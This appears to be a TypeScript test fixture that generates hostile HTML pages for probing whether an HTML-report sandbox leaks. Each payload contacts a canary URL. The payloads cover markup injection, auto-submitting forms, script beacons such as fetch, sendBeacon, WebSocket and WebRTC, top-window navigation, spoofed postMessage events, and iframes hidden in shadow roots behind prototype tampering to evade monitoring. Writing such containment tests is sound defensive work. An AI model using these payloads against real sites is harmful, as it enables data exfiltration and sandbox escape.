// HTML that tries to get out: to a stranger's origin, to the frame around it, past the policy that
// is written before it. Every address is the canary's, with a path that names who got through.

export interface Hostile {
  name: string;
  content: string | Uint8Array;
}

/** A page with a heading to look for, and something hostile around it. */
function page(name: string, before: string, inside: string): Hostile {
  return { name: `${name}.html`, content: `${before}<h1>Report ${name}</h1>${inside}` };
}

export function hostileHtml(canary: string): Hostile[] {
  const url = (path: string) => `${canary}/html-${path}`;
  return [
    page("closers", `</iframe></script></style></title></textarea></noscript><img src="${url("closers")}">`, ""),
    page("comment", "<!-- <!--> --!> <![CDATA[ ]]> <!--->", `<img src="${url("comment")}"> -->`),
    page("nul", `\0\0<\0img src="${url("nul")}"><img\0src="${url("nul-2")}">`, `<img src="${url("nul-3")}">`),
    page("quotes", `"'\`></iframe><iframe src="${url("quotes")}"></iframe>`, `&quot;&gt;<img src=${url("quotes-2")}>`),
    page("refresh", `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`, ""),
    page("base", `<base href="${canary}/" target="_top">`, `<img src="html-base"><a href="html-base-2" ping="${url("ping")}">a</a>`),
    page("links", linkTags(url), ""),
    page("media", "", mediaTags(url)),
    page("css", `<style>@import "${url("import")}";h1{background:url(${url("css")})}@font-face{font-family:x;src:url(${url("font")})}h1{font-family:x}</style>`, `<p style="background:url('${url("style")}')">x</p>`),
    page("frames", "", `<iframe src="${url("frame")}"></iframe><object data="${url("object")}"></object><embed src="${url("embed")}"><frameset><frame src="${url("frameset")}"></frameset><portal src="${url("portal")}"></portal>`),
    page("form", "", `<form id="f" action="${url("form")}" method="post"><input name="a" value="b" autofocus onfocus="this.form.submit()"><button formaction="${url("formaction")}">Send</button></form>`),
    page("handlers", `<body onload="fetch('${url("onload")}')">`, `<img src="x" onerror="new Image().src='${url("onerror")}'"><svg onload="fetch('${url("svg-onload")}')"></svg><details open ontoggle="fetch('${url("toggle")}')">d</details>`),
    page("script", `<script>${escapes(url)}</script>`, `<script src="${url("script-src")}"></script><script type="module" src="${url("module")}"></script>`),
    page("srcdoc", "", `<iframe srcdoc="<img src='${url("srcdoc")}'><script>fetch('${url("srcdoc-script")}')</script>"></iframe>`),
    page("javascript", "", `<iframe src="javascript:fetch('${url("javascript")}')"></iframe><a id="a" href="javascript:fetch('${url("javascript-2")}')">x</a>`),
  ];
}

function linkTags(url: (path: string) => string): string {
  const kinds = ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "icon", "stylesheet", "manifest"];
  return kinds.map((rel) => `<link rel="${rel}" as="image" href="${url(`link-${rel}`)}">`).join("");
}

function mediaTags(url: (path: string) => string): string {
  return [
    `<img src="${url("img")}" srcset="${url("srcset")} 2x">`,
    `<picture><source srcset="${url("picture")}"><img alt=""></picture>`,
    `<video src="${url("video")}" poster="${url("poster")}" autoplay></video>`,
    `<audio src="${url("audio")}" autoplay></audio><video><track default src="${url("track")}"></video>`,
    `<input type="image" src="${url("input")}"><table background="${url("table")}"></table>`,
    `<svg><image href="${url("svg-image")}"/><use href="${url("svg-use")}#a"/></svg>`,
  ].join("");
}

/** What a script does after the person let it run: leave by every door there is. */
function escapes(url: (path: string) => string): string {
  const each = [
    `fetch(${JSON.stringify(url("fetch"))}, {mode: "no-cors"})`,
    `navigator.sendBeacon(${JSON.stringify(url("beacon"))}, "x")`,
    `new Image().src = ${JSON.stringify(url("image"))}`,
    `new WebSocket(${JSON.stringify(url("socket").replace("http", "ws"))})`,
    `new EventSource(${JSON.stringify(url("events"))})`,
    `open(${JSON.stringify(url("open"))})`,
    `{ const f = document.createElement("form"); f.action = ${JSON.stringify(url("form-script"))}; document.documentElement.append(f); f.submit(); }`,
    `{ const l = document.createElement("link"); l.rel = "preconnect"; l.href = ${JSON.stringify(url("preconnect"))}; document.head.append(l); }`,
    `{ const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = ${JSON.stringify(url("dns"))}; document.head.append(l); }`,
    `{ const i = document.createElement("iframe"); i.src = ${JSON.stringify(url("iframe-script"))}; document.documentElement.append(i); }`,
    ...freshWindows(url),
    `new Worker(URL.createObjectURL(new Blob(["fetch('${url("worker")}', {mode: 'no-cors'})"])))`,
    `import(${JSON.stringify(url("import-script"))}).catch(() => {})`,
    askAround("", url("x")),
    `parent.document.body.textContent = "taken"`,
    `parent.postMessage({type: "resultant/dashboard-ready"}, "*"); top.postMessage({type: "resultant/ready"}, "*")`,
    `localStorage.setItem("a", "b")`,
    `location.href = ${JSON.stringify(url("location"))}`,
    `top.location.href = ${JSON.stringify(url("top"))}`,
    `parent.location.href = ${JSON.stringify(url("parent"))}`,
  ];
  return each.map((line) => `try { ${line}; } catch (error) {}`).join("\n");
}

/** WebRTC asks a stranger by UDP, with the constructor of the window that is named (`frames[0].`). */
export function askAround(window: string, canary: string): string {
  const server = JSON.stringify(`stun:${new URL(canary).host}`);
  return `{ const p = new ${window}RTCPeerConnection({iceServers: [{urls: ${server}}]}); p.createDataChannel("x"); p.createOffer().then((offer) => p.setLocalDescription(offer)); }`;
}

/** Ways to a window that has all again that was taken from this one: reaching into a frame, and hiding one. */
export function freshWindows(url: (path: string) => string): string[] {
  const make = `const f = document.createElement("iframe"); document.documentElement.append(f); `;
  const reached = ["f.contentWindow.", "frames[0]."].map((window) => `{ ${make}${askAround(window, url("x"))} }`);
  return [...reached, ...hiddenFrames(url)];
}

/** Frames with a script of their own, put where they might not be seen. Each works where nothing is done against it. */
export function hiddenFrames(url: (path: string) => string): string[] {
  const script = `<script>${askAround("", url("x"))}</scr` + `ipt>`;
  const text = (html: string) => JSON.stringify(html).replaceAll("</", "<\\/");
  const frame = `<iframe srcdoc='${script}'></iframe>`;
  const hidden = `<div><template shadowrootmode="closed">${frame}</template></div>`;
  const make = `const f = document.createElement("iframe"); `;
  const put = `document.documentElement.append(f); `;
  const open = `<div><template shadowrootmode="open"></template></div>`;
  const host = `const d = document.createElement("div"); document.body.append(d); `;
  const attach = `try { d.attachShadow({mode: "open"}); } catch {} `;
  const fill = `d.shadowRoot.innerHTML = ${text(frame)}; `;
  return [
    `{ ${make}f.srcdoc = ${text(script)}; ${put} }`,
    `{ ${make}f.src = "javascript:" + encodeURIComponent(${text(askAround("", url("x")))}); ${put} }`,
    `document.body.insertAdjacentHTML("beforeend", ${text(frame)})`,
    `{ const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe(${text(hidden)}); }`,
    `document.body.append(document.adoptNode(Document.parseHTMLUnsafe(${text(hidden)}).body.firstChild))`,
    `{ const d = document.createElement("div"); d.attachShadow({mode: "closed", clonable: true}).innerHTML = ${text(frame)}; document.body.append(d.cloneNode(true)); }`,
    `document.write(${text(hidden)})`,
    `Object.defineProperty(MutationRecord.prototype, "addedNodes", {get: () => []}); document.body.insertAdjacentHTML("beforeend", ${text(frame)})`,
    // Roots that are made, and then cannot be watched.
    `{ ${host}Object.prototype.attributes = false; ${attach}delete Object.prototype.attributes; ${fill} }`,
    `{ ${host}const all = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = null; ${attach}Array.prototype[Symbol.iterator] = all; ${fill} }`,
    `for (let n = 0; n < 9; n += 1) { ${host}const dig = () => { try { dig(); } catch {} if (!d.shadowRoot) ${attach}}; dig(); ${fill} }`,
    // The parsers that clean what they parse leave roots in it.
    `{ const o = document.createElement("div"); document.body.append(o); o.setHTML(${text(open)}); const d = o.firstChild; ${fill} }`,
    `{ const d = document.adoptNode(Document.parseHTML(${text(open)}).body.firstChild); document.body.append(d); ${fill} }`,
  ];
}

/** A page whose script does all that as soon as it is let run, and then says that it ran. */
export function scriptedHtml(canary: string): Hostile {
  return scripted("scripted.html", escapes((path) => `${canary}/run-${path}`));
}

/**
 * The same without what navigates, itself or a frame: the script comes to its end and can be seen to, and the
 * browser has no reason for the empty connection that it opens before it asks the policy about a navigation.
 */
export function stayingHtml(canary: string): Hostile {
  const lines = escapes((path) => `${canary}/stay-${path}`).split("\n");
  return scripted("staying.html", lines.filter((line) => !/location\.href|submit\(|open\(|iframe-script/.test(line)).join("\n"));
}

function scripted(name: string, script: string): Hostile {
  const said = `document.getElementById("said").textContent = "the script ran";`;
  return { name, content: `<!doctype html><h1>Scripted</h1><p id="said">no script ran</p><script>${script}\n${said}</script>` };
}
